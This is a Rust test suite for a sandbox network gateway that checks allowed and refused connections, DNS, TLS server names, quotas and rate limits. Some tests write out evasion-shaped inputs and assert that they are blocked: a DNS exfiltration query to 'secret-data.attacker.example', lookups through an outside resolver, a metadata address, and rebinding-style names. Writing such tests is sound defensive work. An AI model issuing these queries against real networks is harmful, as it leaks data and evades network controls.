//! Connections, lookups and datagrams: for each that is allowed, one that must fail.

use crate::sandbox::{
    Host, METADATA, OTHER, PRIVATE, PUBLIC, PUBLIC6, Policy, SILENT, Sandbox, allow, deny, limited, name, v4,
};
use crate::servers::{echo, tcp, tls_hello, udp_echo};
use msb_plan::OriginId;
use msb_plan::network::{Limits, Listen, Peer, Protocol, Rate, Total};
use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, Shutdown, SocketAddr, TcpStream, UdpSocket};
use std::time::{Duration, Instant};

pub type Case = (&'static str, fn(&Host));

macro_rules! cases {
    ($($name:ident),* $(,)?) => { &[$((stringify!($name), $name as fn(&Host))),*] };
}

pub(crate) use cases;

pub const ALL: &[Case] = cases![
    bytes_reach_an_allowed_address_and_no_other,
    ipv6_is_the_same,
    names_have_addresses_that_lead_only_to_them,
    names_that_lead_to_private_addresses_are_refused,
    lookups_of_other_names_end_at_once,
    dns_by_tcp_and_odd_questions,
    a_server_name_must_be_the_rules,
    a_slow_and_fragmented_hello_is_read,
    a_hello_that_never_comes_is_refused,
    half_closed_connections_go_on,
    a_slow_reader_holds_up_nobody_else,
    quotas_are_exact,
    connections_are_counted,
    rates_hold_under_parallel_streams,
    datagrams_go_and_come_back,
    the_host_is_closed_unless_named,
    a_silent_address_does_not_stop_the_next,
    published_ports_reach_inside,
    nothing_passes_when_the_gateway_is_killed,
    descriptors_run_out_for_one_connection_only,
    the_gateway_is_confined,
];

const SECOND: Duration = Duration::from_secs(1);

/// Dials, says `hello` and reads to the end of the answer or for a while.
fn says(to: SocketAddr, text: &str) -> std::io::Result<String> {
    let mut stream = TcpStream::connect_timeout(&to, 5 * SECOND)?;
    stream.set_read_timeout(Some(5 * SECOND))?;
    stream.write_all(text.as_bytes())?;
    let mut answer = vec![0; text.len()];
    stream.read_exact(&mut answer)?;
    Ok(String::from_utf8_lossy(&answer).into_owned())
}

fn at(address: impl Into<IpAddr>, port: u16) -> SocketAddr {
    SocketAddr::new(address.into(), port)
}

fn inside(sandbox: &Sandbox, to: SocketAddr) -> std::io::Result<String> {
    sandbox.run(move || says(to, "hello"))
}

fn is_refused(result: &std::io::Result<String>) -> bool {
    let kinds = [
        ErrorKind::ConnectionReset,
        ErrorKind::ConnectionRefused,
        ErrorKind::UnexpectedEof,
        ErrorKind::BrokenPipe,
    ];
    result.as_ref().is_err_and(|error| kinds.contains(&error.kind()))
}

pub fn lines<'a>(log: &'a [serde_json::Value], event: &str, decision: &str) -> Vec<&'a serde_json::Value> {
    log.iter().filter(|line| line["event"] == event && line["decision"] == decision).collect()
}

fn bytes_reach_an_allowed_address_and_no_other(host: &Host) {
    let (yes, other, port) = (tcp(PUBLIC, 0, echo), tcp(OTHER, 0, echo), tcp(PUBLIC, 0, echo));
    let metadata = tcp(METADATA, 0, echo);
    let sandbox =
        Sandbox::new(host, &Policy::of([allow(Protocol::Tcp, v4(PUBLIC), (yes.port(), yes.port()))]));
    assert_eq!(inside(&sandbox, yes).unwrap(), "hello");
    for to in [other, port, metadata] {
        let refused = inside(&sandbox, to);
        assert!(is_refused(&refused), "{to}: {refused:?}");
    }
    // IPv4 written as IPv6 is IPv4.
    let mapped = at(PUBLIC.to_ipv6_mapped(), yes.port());
    assert_eq!(inside(&sandbox, mapped).unwrap(), "hello");
    let log = sandbox.end();
    assert_eq!(lines(&log, "connection", "allow").len(), 2, "{log:#?}");
    let denied = lines(&log, "connection", "deny");
    assert_eq!(denied.len(), 3);
    assert!(denied.iter().all(|line| line["reason"] == "no-rule"));
    let ends: Vec<_> = log.iter().filter(|line| line["event"] == "end").collect();
    assert!(
        ends.iter().all(|line| line["up_bytes"] == 5 && line["down_bytes"] == 5 && line["rule"]["line"] == 7)
    );
    let totals = log.last().unwrap();
    assert_eq!(totals["connections"]["denied"], 3);
    // Nobody handed over a socket on which the kernel says what it refuses.
    assert_eq!(totals["kernel"], "silent");
}

fn ipv6_is_the_same(host: &Host) {
    let (yes, no) = (tcp(PUBLIC6, 0, echo), tcp(PUBLIC6, 0, echo));
    let peer = Peer::V6 { first: PUBLIC6.octets(), bits: 128 };
    let sandbox = Sandbox::new(host, &Policy::of([allow(Protocol::Tcp, peer, (yes.port(), yes.port()))]));
    assert_eq!(inside(&sandbox, yes).unwrap(), "hello");
    assert!(is_refused(&inside(&sandbox, no)));
}

fn names_have_addresses_that_lead_only_to_them(host: &Host) {
    let server = tcp(PUBLIC, 0, echo);
    let six = tcp(PUBLIC6, server.port(), echo);
    let ports = (server.port(), server.port());
    let sandbox = Sandbox::new(
        host,
        &Policy::of([
            allow(Protocol::Tcp, name("api.example.org", 1), ports),
            allow(Protocol::Tcp, name("six.example.org", 2), ports),
            allow(Protocol::Tcp, name("xn--bcher-kva.example", 3), ports),
            allow(Protocol::Tcp, Peer::Below("wild.example"), ports),
        ]),
    );
    assert_eq!(inside(&sandbox, at(Ipv4Addr::new(198, 18, 1, 1), ports.0)).unwrap(), "hello");
    // It has an IPv4 address inside although it has only an IPv6 one outside.
    assert_eq!(inside(&sandbox, at(Ipv4Addr::new(198, 18, 1, 2), six.port())).unwrap(), "hello");
    // The real address is no rule's, nor is an address that no name has.
    assert!(is_refused(&inside(&sandbox, server)));
    for nobody in [[198, 18, 1, 9], [198, 19, 0, 1], [198, 19, 255, 255], [198, 18, 0, 1]] {
        assert!(is_refused(&inside(&sandbox, at(nobody, ports.0))), "{nobody:?}");
    }
    let dial = |name: &'static str| {
        sandbox.run(move || {
            let found = std::net::ToSocketAddrs::to_socket_addrs(&(name, ports.0))?.next().unwrap();
            says(found, "hello").map(|answer| (found.ip(), answer))
        })
    };
    assert_eq!(dial("API.Example.ORG.").unwrap(), (IpAddr::V4([198, 18, 1, 1].into()), "hello".to_owned()));
    let (one, two) = (dial("one.wild.example").unwrap(), dial("two.wild.example").unwrap());
    assert!(one.0 != two.0, "each name has an address of its own");
    assert_eq!(dial("deep.er.wild.example").unwrap().1, "hello");
    assert!(dial("wild.example").is_err(), "a pattern is not for the name itself");
    assert!(dial("other.example.org").is_err());
}

fn names_that_lead_to_private_addresses_are_refused(host: &Host) {
    let server = tcp(PRIVATE, 0, echo);
    let loopback = tcp(Ipv4Addr::LOCALHOST, server.port(), echo);
    let _metadata = tcp(METADATA, server.port(), echo);
    let ports = (loopback.port(), loopback.port());
    let by_name = || {
        [
            allow(Protocol::Tcp, name("private.example.org", 1), ports),
            allow(Protocol::Tcp, name("rebind.example.org", 2), ports),
            allow(Protocol::Tcp, name("metadata.example.org", 3), ports),
        ]
    };
    let sandbox = Sandbox::new(host, &Policy::of(by_name()));
    for number in 1..=3 {
        let refused = inside(&sandbox, at([198, 18, 1, number], ports.0));
        assert!(is_refused(&refused), "{number}: {refused:?}");
    }
    let log = sandbox.end();
    let denied = lines(&log, "connection", "deny");
    assert!(denied.len() == 3 && denied.iter().all(|it| it["reason"] == "address-not-named"), "{log:#?}");
    // A rule that names the range besides lets the name lead there, and nowhere else.
    let range = allow(Protocol::Tcp, Peer::V4 { first: [10, 0, 0, 0], bits: 8 }, ports);
    let sandbox = Sandbox::new(host, &Policy::of(by_name().into_iter().chain([range])));
    assert_eq!(inside(&sandbox, at([198, 18, 1, 1], ports.0)).unwrap(), "hello");
    assert!(is_refused(&inside(&sandbox, at([198, 18, 1, 2], ports.0))));
    // A deny of an address holds for names that lead there.
    let names =
        [allow(Protocol::Tcp, name("api.example.org", 1), ports), deny(Protocol::Tcp, v4(PUBLIC), ports)];
    let _public = tcp(PUBLIC, ports.0, echo);
    let sandbox = Sandbox::new(host, &Policy::of(names));
    assert!(is_refused(&inside(&sandbox, at([198, 18, 1, 1], ports.0))));
}

fn lookups_of_other_names_end_at_once(host: &Host) {
    let sandbox =
        Sandbox::new(host, &Policy::of([allow(Protocol::Tls, name("api.example.org", 1), (443, 443))]));
    let begun = Instant::now();
    let (found, _) = sandbox.sh("getent ahosts api.example.org; getent ahosts other.example.org; echo $?");
    assert!(found.contains("198.18.1.1") && found.trim_end().ends_with('2'), "{found}");
    assert!(begun.elapsed() < SECOND, "{:?}", begun.elapsed());
    let log = sandbox.end();
    assert!(!lines(&log, "lookup", "deny").is_empty());
}

fn dns_by_tcp_and_odd_questions(host: &Host) {
    let sandbox =
        Sandbox::new(host, &Policy::of([allow(Protocol::Tls, name("api.example.org", 1), (443, 443))]));
    let ask = |words: &str| sandbox.sh(&format!("dig +time=2 +tries=1 {words}")).0;
    if ask("api.example.org").contains("not found") {
        println!("  skipped, because `dig` is not here");
        return;
    }
    assert!(ask("+short api.example.org").contains("198.18.1.1"));
    assert!(ask("+tcp +short api.example.org").contains("198.18.1.1"));
    for kind in ["AAAA", "HTTPS", "SVCB", "TXT", "MX", "NS"] {
        let answer = ask(&format!("api.example.org {kind}"));
        assert!(answer.contains("NOERROR") && answer.contains("ANSWER: 0"), "{kind}: {answer}");
    }
    let denied = ask("secret-data.attacker.example");
    assert!(denied.contains("NXDOMAIN") && denied.contains("EDE: 15 (Blocked)"), "{denied}");
    // Another resolver is nobody's.
    assert!(ask("@8.8.8.8 api.example.org").contains("no servers could be reached"));
    assert!(ask("+tcp @8.8.8.8 api.example.org").contains("no servers could be reached"));
}

fn curl(sandbox: &Sandbox, words: &str) -> (String, Option<i32>) {
    sandbox.sh(&format!("curl -sS --max-time 10 {words}"))
}

fn a_server_name_must_be_the_rules(host: &Host) {
    let config = host.authority.server(&["api.example.org", "other.example.org", "203.0.113.10"], &[]);
    let server = tcp(PUBLIC, 0, tls_hello(config));
    let port = server.port();
    let ports = (port, port);
    let sandbox = Sandbox::new(
        host,
        &Policy::of([
            allow(Protocol::Tls, name("api.example.org", 1), ports),
            allow(Protocol::Https, Peer::Below("wild.example"), ports),
        ]),
    );
    sandbox.run({
        let (from, to) = (host.authority.file.clone(), sandbox.trust.clone());
        move || std::fs::copy(from, to).unwrap()
    });
    let (answer, code) = curl(&sandbox, &format!("https://api.example.org:{port}/"));
    assert_eq!((answer.as_str(), code), ("hello\n", Some(0)));
    let other =
        format!("--connect-to other.example.org:{port}:198.18.1.1:{port} https://other.example.org:{port}/");
    let (answer, code) = curl(&sandbox, &other);
    assert!(code != Some(0) && answer.contains("unrecognized name"), "{answer}");
    let (answer, code) = curl(&sandbox, &format!("-k https://198.18.1.1:{port}/"));
    assert!(code != Some(0) && answer.contains("unrecognized name"), "no server name: {answer}");
    let (_, code) = curl(&sandbox, &format!("http://api.example.org:{port}/"));
    assert!(code != Some(0), "not TLS");
    let log = sandbox.end();
    let reasons: Vec<_> = lines(&log, "connection", "deny").iter().map(|it| it["reason"].clone()).collect();
    assert_eq!(reasons, ["server-name-differs", "server-name-missing", "http-where-tls-is-allowed"]);
}

/// A ClientHello for this name, as rustls makes it.
fn client_hello(name: &'static str) -> Vec<u8> {
    let provider = std::sync::Arc::new(rustls::crypto::ring::default_provider());
    let config = rustls::ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(rustls::RootCertStore::empty())
        .with_no_client_auth();
    let name = rustls::pki_types::ServerName::try_from(name).unwrap();
    let mut connection = rustls::ClientConnection::new(std::sync::Arc::new(config), name).unwrap();
    let mut bytes = Vec::new();
    connection.write_tls(&mut bytes).unwrap();
    bytes
}

fn a_slow_and_fragmented_hello_is_read(host: &Host) {
    let server = tcp(PUBLIC, 0, echo);
    let ports = (server.port(), server.port());
    let sandbox = Sandbox::new(host, &Policy::of([allow(Protocol::Tls, name("api.example.org", 1), ports)]));
    let to = at([198, 18, 1, 1], ports.0);
    let hello = client_hello("api.example.org");
    let answer = sandbox.run(move || {
        let mut stream = TcpStream::connect(to).unwrap();
        stream.set_nodelay(true).unwrap();
        for byte in hello.chunks(1) {
            stream.write_all(byte).unwrap();
        }
        let mut answer = vec![0; hello.len()];
        stream.read_exact(&mut answer).unwrap();
        answer == hello
    });
    assert!(answer, "the server gets what was read to decide, and nothing else");
    // In two records, the second of which has the name.
    let hello = client_hello("api.example.org");
    let answer = sandbox.run(move || {
        let (head, body) = hello.split_at(5);
        let (one, two) = body.split_at(20);
        let record = |part: &[u8]| {
            let length = u16::try_from(part.len()).unwrap().to_be_bytes();
            [&head[..3], &length, part].concat()
        };
        let bytes = [record(one), record(two)].concat();
        let mut stream = TcpStream::connect(to).unwrap();
        stream.write_all(&bytes).unwrap();
        let mut answer = vec![0; bytes.len()];
        stream.read_exact(&mut answer).unwrap();
        answer == bytes
    });
    assert!(answer);
}

fn a_hello_that_never_comes_is_refused(host: &Host) {
    let server = tcp(PUBLIC, 0, echo);
    let ports = (server.port(), server.port());
    let sandbox = Sandbox::new(host, &Policy::of([allow(Protocol::Tls, name("api.example.org", 1), ports)]));
    let to = at([198, 18, 1, 1], ports.0);
    let waited = sandbox.run(move || {
        let mut stream = TcpStream::connect(to).unwrap();
        stream.set_read_timeout(Some(20 * SECOND)).unwrap();
        let begun = Instant::now();
        assert!(matches!(stream.read(&mut [0; 8]), Err(_) | Ok(0)));
        begun.elapsed()
    });
    assert!((9 * SECOND..13 * SECOND).contains(&waited), "{waited:?}");
    let log = sandbox.end();
    assert_eq!(lines(&log, "connection", "deny")[0]["reason"], "no-first-bytes");
}

fn half_closed_connections_go_on(host: &Host) {
    // Answers only when it has read to the end.
    let server = tcp(PUBLIC, 0, |mut stream| {
        let mut all = Vec::new();
        stream.read_to_end(&mut all).unwrap();
        stream.write_all(format!("{} bytes", all.len()).as_bytes()).unwrap();
    });
    let sandbox =
        Sandbox::new(host, &Policy::of([allow(Protocol::Tcp, v4(PUBLIC), (server.port(), server.port()))]));
    let answer = sandbox.run(move || {
        let mut stream = TcpStream::connect(server).unwrap();
        stream.write_all(&vec![7; 3_000_000]).unwrap();
        stream.shutdown(Shutdown::Write).unwrap();
        let mut answer = String::new();
        stream.read_to_string(&mut answer).unwrap();
        answer
    });
    assert_eq!(answer, "3000000 bytes");
}

fn a_slow_reader_holds_up_nobody_else(host: &Host) {
    let server = tcp(PUBLIC, 0, echo);
    let sandbox =
        Sandbox::new(host, &Policy::of([allow(Protocol::Tcp, v4(PUBLIC), (server.port(), server.port()))]));
    let slow: Vec<TcpStream> = (0..8)
        .map(|_| {
            sandbox.run(move || {
                let mut stream = TcpStream::connect(server).unwrap();
                stream.set_nonblocking(true).unwrap();
                // Never reads: the server's answers fill every buffer on the way.
                while stream.write(&[1; 65_536]).is_ok() {}
                stream
            })
        })
        .collect();
    let begun = Instant::now();
    assert_eq!(inside(&sandbox, server).unwrap(), "hello");
    assert!(begun.elapsed() < SECOND);
    drop(slow);
}

fn quotas_are_exact(host: &Host) {
    const QUOTA: u64 = 1_234_567;
    // Sends for as long as it is let.
    let server = tcp(PUBLIC, 0, |mut stream| while stream.write_all(&[1; 10_000]).is_ok() {});
    let limits = Limits { down_bytes: Some(QUOTA), ..Limits::default() };
    let rule = limited(allow(Protocol::Tcp, v4(PUBLIC), (server.port(), server.port())), limits);
    let sandbox = Sandbox::new(host, &Policy::of([rule]));
    let got: u64 = sandbox.run(move || {
        let streams: Vec<_> = (0..8)
            .map(|_| {
                std::thread::spawn(move || {
                    let mut stream = TcpStream::connect(server).unwrap();
                    let mut buffer = [0; 50_000];
                    let mut got = 0;
                    loop {
                        match stream.read(&mut buffer) {
                            Ok(0) | Err(_) => return got,
                            Ok(read) => got += read as u64,
                        }
                    }
                })
            })
            .collect();
        streams.into_iter().map(|it| it.join().unwrap()).sum()
    });
    assert_eq!(got, QUOTA);
    assert!(is_refused(&inside(&sandbox, server)), "nothing is left");
    let log = sandbox.end();
    assert_eq!(log.last().unwrap()["down_bytes"], QUOTA);
    assert_eq!(lines(&log, "connection", "deny")[0]["reason"], "quota");

    // The same the other way, of the whole policy.
    let (report, received) = std::sync::mpsc::channel();
    let server = tcp(PUBLIC, 0, move |mut stream| {
        let mut got = 0;
        let mut buffer = [0; 65_536];
        while let Ok(read @ 1..) = stream.read(&mut buffer) {
            got += read as u64;
        }
        report.send(got).unwrap();
    });
    let limits = Limits { up_bytes: Some(QUOTA), ..Limits::default() };
    let policy = Policy {
        totals: vec![Total { limits, origin: OriginId(1) }],
        ..Policy::of([allow(Protocol::Tcp, v4(PUBLIC), (server.port(), server.port()))])
    };
    let sandbox = Sandbox::new(host, &policy);
    sandbox.run(move || {
        let writers: Vec<_> = (0..8)
            .map(|_| {
                std::thread::spawn(move || {
                    let mut stream = TcpStream::connect(server).unwrap();
                    while stream.write_all(&[1; 30_000]).is_ok() {}
                })
            })
            .collect();
        writers.into_iter().for_each(|it| it.join().unwrap());
    });
    // Those that came too late were not let in at all.
    let mut got = 0;
    while got < QUOTA {
        got += received.recv_timeout(10 * SECOND).unwrap();
    }
    drop(sandbox);
    got += received.try_iter().sum::<u64>();
    assert_eq!(got, QUOTA);
}

fn connections_are_counted(host: &Host) {
    let server = tcp(PUBLIC, 0, echo);
    let limits = Limits { connections: Some(2), ..Limits::default() };
    let rule = limited(allow(Protocol::Tcp, v4(PUBLIC), (server.port(), server.port())), limits);
    let sandbox = Sandbox::new(host, &Policy::of([rule]));
    let open = || {
        sandbox.run(move || {
            let mut stream = TcpStream::connect(server).unwrap();
            stream.write_all(b"x")?;
            stream.read_exact(&mut [0])?;
            Ok::<_, std::io::Error>(stream)
        })
    };
    let (one, two) = (open().unwrap(), open().unwrap());
    assert!(open().is_err());
    drop(one);
    // Its end is seen when both sides have closed.
    let begun = Instant::now();
    while open().is_err() {
        assert!(begun.elapsed() < 5 * SECOND);
    }
    drop(two);
}

fn rates_hold_under_parallel_streams(host: &Host) {
    let server = tcp(PUBLIC, 0, echo);
    let rate = Some(Rate { count: 200, period_us: 1_000_000, burst: 50 });
    let limits = Limits { rate, ..Limits::default() };
    let rule = limited(allow(Protocol::Tcp, v4(PUBLIC), (server.port(), server.port())), limits);
    let sandbox = Sandbox::new(host, &Policy::of([rule]));
    let window = 3 * SECOND;
    let (allowed, took) = sandbox.run(move || {
        let begun = Instant::now();
        let streams: Vec<_> = (0..8)
            .map(|_| {
                std::thread::spawn(move || {
                    let mut allowed = 0_u32;
                    while begun.elapsed() < window {
                        allowed += u32::from(says(server, "x").is_ok());
                    }
                    allowed
                })
            })
            .collect();
        (streams.into_iter().map(|it| it.join().unwrap()).sum::<u32>(), begun.elapsed())
    });
    let wanted = 50.0 + 200.0 * took.as_secs_f64();
    let off = (f64::from(allowed) - wanted) / wanted;
    assert!(off.abs() <= 0.02, "{allowed} of {wanted}");
}

fn datagrams_go_and_come_back(host: &Host) {
    let (server, no) = (udp_echo(PUBLIC, 0), udp_echo(OTHER, 0));
    let by_name = udp_echo(PUBLIC, 0);
    let six = udp_echo(PUBLIC6, 0);
    let sandbox = Sandbox::new(
        host,
        &Policy::of([
            allow(Protocol::Udp, v4(PUBLIC), (server.port(), server.port())),
            allow(Protocol::Udp, name("api.example.org", 1), (by_name.port(), by_name.port())),
            allow(Protocol::Udp, Peer::V6 { first: PUBLIC6.octets(), bits: 128 }, (six.port(), six.port())),
        ]),
    );
    let ask = |to: SocketAddr, size: usize| {
        sandbox.run(move || {
            let socket = UdpSocket::bind(if to.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" }).unwrap();
            socket.set_read_timeout(Some(2 * SECOND)).unwrap();
            socket.connect(to)?;
            socket.send(&vec![b'a'; size])?;
            let mut buffer = vec![0; 65_536];
            let read = socket.recv(&mut buffer)?;
            Ok::<_, std::io::Error>((read, buffer[0]))
        })
    };
    for size in [1, 1200, 9000, 60_000] {
        assert_eq!(ask(server, size).unwrap(), (size, b'A'));
    }
    assert_eq!(ask(six, 1000).unwrap(), (1000, b'A'));
    assert_eq!(ask(at([198, 18, 1, 1], by_name.port()), 5).unwrap(), (5, b'A'));
    let begun = Instant::now();
    let refused = ask(no, 5).unwrap_err();
    assert_eq!(refused.kind(), ErrorKind::HostUnreachable, "{refused}");
    assert!(begun.elapsed() < SECOND, "refused at once, not by a timeout");
    // One socket that sends elsewhere after it was connected.
    let answers = sandbox.run(move || {
        let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
        socket.set_read_timeout(Some(SECOND)).unwrap();
        socket.send_to(b"yes", server).unwrap();
        let mut buffer = [0; 16];
        let (read, from) = socket.recv_from(&mut buffer).unwrap();
        let first = (buffer[..read].to_vec(), from);
        let sent = socket.send_to(b"no", no);
        (first, sent.is_err() || socket.recv_from(&mut buffer).is_err())
    });
    assert_eq!(answers, ((b"YES".to_vec(), server), true));
}

fn the_host_is_closed_unless_named(host: &Host) {
    let server = tcp(Ipv4Addr::LOCALHOST, 0, echo);
    let six = tcp(Ipv6Addr::LOCALHOST, 0, echo);
    let to = at([198, 18, 0, 4], server.port());
    let closed = Sandbox::new(host, &Policy::of([allow(Protocol::Tcp, Peer::Any, (1, 65535))]));
    assert!(is_refused(&inside(&closed, to)), "any is not the host");
    assert!(is_refused(&inside(&closed, at(PRIVATE, server.port()))), "any is nothing private");
    drop(closed);
    let open = Sandbox::new(
        host,
        &Policy::of([
            allow(Protocol::Tcp, Peer::Host, (server.port(), server.port())),
            allow(Protocol::Tcp, Peer::Host, (six.port(), six.port())),
        ]),
    );
    assert_eq!(inside(&open, to).unwrap(), "hello");
    assert_eq!(inside(&open, at([198, 18, 0, 4], six.port())).unwrap(), "hello");
    assert!(is_refused(&inside(&open, at([198, 18, 0, 4], 1))));
    // Its own loopback is its own.
    let own = inside(&open, at(Ipv4Addr::LOCALHOST, server.port()));
    assert!(own.is_err_and(|error| error.kind() == ErrorKind::ConnectionRefused));
}

fn a_silent_address_does_not_stop_the_next(host: &Host) {
    let server = tcp(PUBLIC, 0, echo);
    let ports = (server.port(), server.port());
    let sandbox = Sandbox::new(host, &Policy::of([allow(Protocol::Tcp, name("both.example.org", 1), ports)]));
    let begun = Instant::now();
    assert_eq!(inside(&sandbox, at([198, 18, 1, 1], ports.0)).unwrap(), "hello");
    assert!(begun.elapsed() < SECOND, "{:?} with {SILENT} first", begun.elapsed());
}

fn published_ports_reach_inside(host: &Host) {
    let (inside, own) = (18_080, [127, 0, 0, 5]);
    let listen = |v4, v6, port| Listen { protocol: Protocol::Tcp, v4, v6, port, inside, origin: OriginId(1) };
    let localhost = Some(Ipv4Addr::LOCALHOST.octets());
    let listens =
        vec![listen(localhost, true, 18_080), listen(Some(own), false, 18_090), listen(None, true, 0)];
    let both = listen(localhost, true, 0);
    let policy = Policy { listens: [listens, vec![both]].concat(), ..Policy::default() };
    let sandbox = Sandbox::new(host, &policy);
    let [named, other, chosen, both] = sandbox.ports[..] else { panic!("{:?}", sandbox.ports) };
    assert_eq!((named, other), (18_080, 18_090));
    assert!(chosen > 1023 && both > 1023 && chosen != both, "{chosen} {both}");
    sandbox.run(move || tcp(Ipv4Addr::LOCALHOST, inside, echo));
    let reached = |to: SocketAddr| {
        let client = std::thread::spawn(move || says(to, "hello"));
        sandbox.make();
        assert_eq!(client.join().unwrap().unwrap(), "hello", "{to}");
    };
    let six = |port| SocketAddr::from((Ipv6Addr::LOCALHOST, port));
    reached(at(Ipv4Addr::LOCALHOST, named));
    reached(six(named));
    reached(at(Ipv4Addr::from(own), other));
    reached(six(chosen));
    reached(at(Ipv4Addr::LOCALHOST, both));
    reached(six(both));
    // There alone.
    let elsewhere = [
        at(PUBLIC, named),
        at(Ipv4Addr::LOCALHOST, other),
        six(other),
        at(Ipv4Addr::LOCALHOST, chosen),
        at(Ipv4Addr::from(own), named),
    ];
    for to in elsewhere {
        assert!(says(to, "hello").is_err(), "{to}");
    }
    let log = sandbox.end();
    let of = |event: &str| log.iter().filter(|line| line["event"] == event).collect::<Vec<_>>();
    let places: Vec<&str> = of("listen").iter().filter_map(|line| line["address"].as_str()).collect();
    let expected = [
        format!("127.0.0.1:{named}"),
        format!("[::1]:{named}"),
        format!("127.0.0.5:{other}"),
        format!("[::1]:{chosen}"),
        format!("127.0.0.1:{both}"),
        format!("[::1]:{both}"),
    ];
    assert_eq!(places, expected);
    // Each of the six, with what it sent into the sandbox and out of it.
    let ended = of("end");
    assert_eq!(ended.len(), 6, "{log:#?}");
    for line in ended {
        let found = (line["published"].as_bool(), line["up_bytes"].as_u64(), line["down_bytes"].as_u64());
        assert_eq!(found, (Some(true), Some(5), Some(5)), "{line}");
    }
    assert_eq!(of("totals")[0]["up_bytes"], 30);
}

fn nothing_passes_when_the_gateway_is_killed(host: &Host) {
    let server = tcp(PUBLIC, 0, echo);
    let mut sandbox =
        Sandbox::new(host, &Policy::of([allow(Protocol::Tcp, v4(PUBLIC), (server.port(), server.port()))]));
    assert_eq!(inside(&sandbox, server).unwrap(), "hello");
    sandbox.gateway.kill().unwrap();
    sandbox.gateway.wait().unwrap();
    assert!(inside(&sandbox, server).is_err());
}

fn descriptors_run_out_for_one_connection_only(host: &Host) {
    let server = tcp(PUBLIC, 0, echo);
    let policy = Policy::of([allow(Protocol::Tcp, v4(PUBLIC), (server.port(), server.port()))]);
    let sandbox = Sandbox::after("ulimit -n 200", host, &policy);
    let (open, refused) = sandbox.run(move || {
        let all: Vec<_> = (0..150)
            .map(|_| {
                let mut stream = TcpStream::connect(server).unwrap();
                let answered = stream.write_all(b"x").and_then(|()| stream.read_exact(&mut [0]));
                answered.map(|()| stream)
            })
            .collect();
        (all.iter().flatten().count(), all.iter().filter(|it| it.is_err()).count())
    });
    assert!(open >= 30 && refused > 0, "{open} open, {refused} refused");
    // Room again.
    let begun = Instant::now();
    while inside(&sandbox, server).is_err() {
        assert!(begun.elapsed() < 5 * SECOND);
    }
}

fn the_gateway_is_confined(host: &Host) {
    let sandbox = Sandbox::new(host, &Policy::of([allow(Protocol::Tcp, Peer::Any, (1, 65535))]));
    let status = std::fs::read_to_string(format!("/proc/{}/status", sandbox.gateway.id())).unwrap();
    let field = |name: &str| {
        let line = status.lines().find(|line| line.starts_with(name)).unwrap_or_default();
        line.split_once(':').map(|(_, value)| value.trim().to_owned()).unwrap_or_default()
    };
    assert_eq!(field("NoNewPrivs"), "1");
    assert_eq!(field("Seccomp"), "2");
    for set in ["CapInh", "CapPrm", "CapEff", "CapAmb"] {
        assert_eq!(field(set), "0000000000000000", "{set}");
    }
    if nix::unistd::geteuid().is_root() && field("Uid").split_whitespace().next() != Some("0") {
        assert!(field("Uid").starts_with("65534"), "{}", field("Uid"));
    }
    println!("  ready after {:?}", sandbox.started);
}
